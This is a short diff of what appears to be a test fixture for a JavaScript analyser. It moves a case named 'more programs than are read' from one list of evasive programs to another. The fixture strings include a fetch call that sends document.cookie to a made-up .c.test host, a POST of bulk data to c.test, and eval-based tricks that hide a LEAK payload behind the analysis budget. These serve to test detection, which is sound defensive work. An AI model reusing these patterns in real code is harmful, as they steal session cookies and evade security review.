@@ -51,6 +51,7 @@ const BEHIND = [
 		"many hosts",
 		`let to = "https://"; ${times(20, (index) => `to += a${index} ? "x" : "y";`)} fetch(to + ".c.test/" + document.cookie);`,
 	],
+	["more programs than are read", `for (let at = 0; at < 100; at++) eval("a" + at);\neval(${JSON.stringify(LEAK)});`],
 ] as const;
 
 /** Programs made to exhaust the budget, or to hide code behind it: not rated, never green. */
@@ -61,7 +62,6 @@ const ENDLESS = [
 		`const all = {}; for (let at = 0; at < 100_000; at++) { all["k" + at] = { at, all }; } fetch("https://c.test", { method: "POST", body: JSON.stringify(all) });`,
 	],
 	["more effects than are kept", `${times(2_100, (index) => `alert(${index});`)}\n${LEAK}`],
-	["more programs than are read", `for (let at = 0; at < 100; at++) eval("a" + at);\neval(${JSON.stringify(LEAK)});`],
 	["functions in functions", `${"(function(){".repeat(120)}x()${"})()".repeat(120)}`],
 	["a sum of thousands", `(![]+[])[+[]]${"+(![]+[])[+[]]".repeat(5_000)}`],
 	["conditions in conditions", `${"x?1:".repeat(2_000)}2`],
